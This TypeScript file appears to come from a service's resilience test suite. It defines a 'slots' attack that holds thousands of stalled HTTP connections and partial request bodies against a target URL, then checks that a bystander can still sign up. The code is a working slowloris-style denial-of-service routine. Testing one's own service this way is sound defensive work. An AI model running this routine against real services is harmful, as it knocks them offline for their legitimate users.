import { connect, type Socket } from 'node:net'
import type { Attack } from '../attack.ts'
import { comesFromElsewhere, signUp } from '../bystander.ts'

const post = 'POST /api/signup HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n'
/** Lacks its last byte. */
const stalledBody = (bytes: number) =>
  `${post}Content-Length: ${bytes}\r\n\r\n${' '.repeat(bytes - 1)}`
/** Large ones take the space, and small ones what is left between them. */
const bodies = [...Array<number>(80).fill(1_000_000), ...Array<number>(220).fill(4_500)].map(
  stalledBody,
)
/** Counts as busy, so only the share of an address keeps its connections from being all. */
const smallBody = `${post}Content-Length: 1000\r\n\r\n`
/** Counts as idle: it is closed for a newcomer, of the same address too. */
const halfHead = 'GET /api/health HTTP/1.1\r\n'

export const slots: Attack = {
  name: 'slots',
  what: 'One address takes all connections and all the space for bodies, and others still sign up.',
  peakBytesMax: 600 * 1024 * 1024,
  run: async ({ url }, size) => {
    const { hostname, port } = new URL(url)
    const sockets: Socket[] = []
    const open = (bytes: string) =>
      new Promise<void>((resolve) => {
        const socket = connect(Number(port), hostname, () => socket.write(bytes, () => resolve()))
        socket.on('error', () => {}).once('close', () => resolve())
        sockets.push(socket)
      })
    const connections = size === 'small' ? 500 : 10_500
    for (const body of bodies) await open(body)
    const bytes = comesFromElsewhere ? smallBody : halfHead
    for (let count = 0; count < connections; count += 50) {
      await Promise.all(Array.from({ length: 50 }, () => open(bytes)))
    }
    await signUp(url)
    for (const socket of sockets) socket.resetAndDestroy()
    // Answered when the service has learned of them.
    await signUp(url)
    return { 'stalled bodies': bodies.length, 'connections held': connections }
  },
}
